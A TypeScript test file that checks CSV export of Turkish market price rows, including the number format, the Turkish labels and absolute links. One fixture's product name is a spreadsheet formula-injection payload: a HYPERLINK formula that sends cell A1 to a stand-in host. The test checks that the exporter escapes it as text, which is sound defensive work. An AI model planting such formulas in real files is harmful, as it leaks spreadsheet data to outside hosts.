import { describe, expect, it } from 'vitest';
import { EXPORT_COLUMNS } from '../../core/export-columns.ts';
import { parseCsv } from '../../sources/lib/csv.ts';
import { CSV_DEFAULT, CSV_TR, csvLine } from './csv.ts';
import { exportCells, type StoredPriceRow } from './export-rows.ts';

/** A stored row of the real archive (Bursa, domates-cherry, 2026-08-22), its name made hostile. */
const row: StoredPriceRow = {
  id: '01a026c4-6400-8004-b1e1-4a097b403bb4',
  productName: '=HYPERLINK("http://example.invalid/?"&A1,"Domates")',
  productSlug: 'domates-cherry',
  categorySlug: 'sebze',
  marketName: 'Bursa Hali',
  marketSlug: 'bursa-sebze-meyve',
  cityName: 'Bursa',
  minPrice: 18,
  maxPrice: 75,
  avgPrice: 46.5,
  avgPriceMethod: 'midpoint',
  unit: 'kg',
  currency: 'TRY',
  recordedDate: '2026-08-22',
  sourceName: 'Bursa Büyükşehir Belediyesi Hal Fiyatları',
  sourceUrl: 'https://www.bursa.bel.tr/hal_fiyatlari',
  isOfficialSource: true,
  source: 'bursa',
  freshness: 'stale',
  warnings: ['data_stale', 'static_archive', 'computed_midpoint'],
  qualityFlags: [],
  observationUrl: '/api/v1/observations/01a026c4-6400-8004-b1e1-4a097b403bb4',
  documentUrl:
    'https://raw.githubusercontent.com/gknsays/BURSA-HAL-FIYATLARI/5a53e0e0a97ab08cc1f16c0adc0f7ba537f46ff3/onceki_fiyatlar.json',
};
const context = {
  origin: 'https://hal.example',
  applied: 'ürün=domates; aralık=3650d',
  exportedAt: '2026-11-21T03:00:00.000Z',
};

function cellsOf(words: boolean): Record<string, string> {
  const line = csvLine(exportCells(row, { ...context, words }), words ? CSV_TR : CSV_DEFAULT);
  const [cells] = parseCsv(line, words ? ';' : ',') as [string[]];
  expect(cells).toHaveLength(EXPORT_COLUMNS.length);
  return Object.fromEntries(EXPORT_COLUMNS.map((c, i) => [c, cells[i]!]));
}

describe('a price row as export cells', () => {
  it('a product name that starts with = reaches the file as text, prices as numbers', () => {
    for (const words of [false, true]) {
      const cells = cellsOf(words);
      expect(cells['Ürün']).toBe(`'${row.productName}`);
      expect([cells['Min Fiyat'], cells['Maks Fiyat'], cells['Ort Fiyat']]).toEqual(
        words ? ['18', '75', '46,5'] : ['18', '75', '46.5'],
      );
    }
  });

  it('the default file keeps the codes; the Turkish file spells them out', () => {
    expect(cellsOf(false)).toMatchObject({
      Güncellik: 'stale',
      Uyarılar: 'data_stale|static_archive|computed_midpoint',
      'Ortalama Yöntemi': 'midpoint',
    });
    expect(cellsOf(true)).toMatchObject({
      Güncellik: 'güncel değil',
      Uyarılar:
        'kaynak ikiden fazla yayın günüdür güncellenmedi; arşiv kaydı; ortalama, en düşük ve en yüksek fiyatın ortası',
      'Ortalama Yöntemi': 'en düşük ile en yüksek fiyatın ortası',
    });
  });

  it('links are absolute: the observation on the request origin, the document as stored', () => {
    for (const words of [false, true]) {
      expect(cellsOf(words)).toMatchObject({
        'Gözlem URL': 'https://hal.example/api/v1/observations/01a026c4-6400-8004-b1e1-4a097b403bb4',
        'Belge URL': row.documentUrl,
      });
    }
  });
});
